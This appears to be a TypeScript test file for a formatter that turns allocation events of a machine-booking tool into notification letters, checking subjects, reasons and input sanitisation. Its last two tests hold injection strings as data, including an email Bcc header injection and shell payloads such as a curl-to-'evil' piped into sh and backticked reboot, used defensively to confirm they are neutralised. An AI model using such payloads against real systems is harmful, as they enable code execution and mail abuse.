import assert from 'node:assert/strict'
import { test } from 'node:test'
import { letterOf } from './letters.ts'

const letter = (type: string, data: object) =>
  letterOf(
    JSON.stringify({ type: `holdfast.${type}`, subject: 'allocation/62', time: '2030-01-01T10:00:00.000Z', data }),
    'hook-1',
  )
const node = { uuid: 'u', name: 'rack-a01' }
const by = { user: 'bob' }

test('a letter says which machine, until when, who and why', () => {
  const turn = letter('allocation.active', { name: 'job-1', node, waited_seconds: 90, by: { user: 'conductor' } })
  assert.equal(turn.subject, "It's your turn: job-1 has a machine on rack-a01")
  const kicked = letter('allocation.ending', {
    name: 'job-1',
    until: '2030-01-01T10:05:00.000Z',
    ending_by: 'Bob of the demo team',
    reason: 'the demo needs it',
    by,
  })
  assert.equal(kicked.subject, 'job-1 is being ended by Bob of the demo team; you have it until 2030-01-01 10:05 UTC')
  assert.match(kicked.text, /^Why: the demo needs it$/m)
})

test('why an allocation ended is told in words', () => {
  const ended = (reason: string) => letter('allocation.ended', { name: 'job-1', node, reason, by }).subject
  assert.equal(ended('deleted'), 'job-1 on rack-a01 has ended by bob')
  assert.equal(ended('expired'), 'job-1 on rack-a01 has ended by bob: its time was over')
})

test('no name of a client adds a line', () => {
  const { subject, text } = letter('allocation.before_end', { name: 'x\r\nBcc: all@example.org', by })
  assert.doesNotMatch(subject, /[\r\n]/)
  assert.doesNotMatch(text, /^Bcc:/m)
})

test('a command to be copied has no name that a shell could misread', () => {
  const names = ['x$(curl${IFS}evil|sh)', '`reboot`', "'; reboot '", '--all-projects', 'a b', 'x\u001b[2J']
  const types = ['allocation.error', 'allocation.before_end', 'allocation.ending', 'lease.before_end', 'lease.error']
  for (const type of types) {
    const command = (name: string) => /^ {2}holdfast .*$/m.exec(letter(type, { name, by }).text)![0]
    assert.match(command('job-1'), / job-1\b/)
    for (const name of names) assert.equal(command(name), command('62'))
  }
})
